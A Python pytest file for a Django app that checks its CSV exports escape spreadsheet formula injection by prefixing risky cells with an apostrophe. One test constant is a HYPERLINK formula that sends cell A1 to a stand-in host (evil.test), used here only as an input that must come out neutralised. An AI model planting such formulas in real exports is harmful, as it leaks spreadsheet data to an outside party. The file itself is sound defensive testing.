"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ tab or
carriage return are prefixed with ' (OWASP), numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.csv_export import csv_response, csv_safe_cell
from tests.finance.factories import FinanceItemFactory, PayoutStatementFactory

HYPERLINK = '=HYPERLINK("https://evil.test/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Payee 1", "Payee 1"),
        ("", ""),
        ("a=b", "a=b"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert csv_safe_cell(value) == written


def test_a_response_writes_negative_amounts_as_numbers_and_formulas_as_text():
    response = csv_response(
        [("payee", "adjustment"), (HYPERLINK, Decimal("-12.50"))], filename="x.csv"
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))

    assert rows == [["payee", "adjustment"], ["'" + HYPERLINK, "-12.50"]]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


@pytest.mark.django_db
def test_the_finance_exports_escape_a_payee_named_like_a_formula(api, superuser_client):
    item = FinanceItemFactory(code="FIN-0800", payee_name=HYPERLINK)
    PayoutStatementFactory(
        finance_item=item,
        adjustment=Decimal("-12.50"),
        adjustment_reason="-late delivery",
        payment_reference="@ref",
    )
    exports = [
        api.get("/api/v1/finance/statements/export.csv", {"month": "2026-03"}),
        superuser_client.get(
            reverse("admin:finance_payments_board"), {"month": "2026-03", "format": "csv"}
        ),
    ]

    for export in exports:
        assert export.status_code == 200
        (row,) = csv.DictReader(io.StringIO(export.content.decode()))
        assert row["payee"] == "'" + HYPERLINK
        assert row["adjustment"] == "-12.50"
        assert row["adjustment_reason"] == "'-late delivery"
        assert row["payment_reference"] == "'@ref"
        assert row["finance_item"] == "FIN-0800"
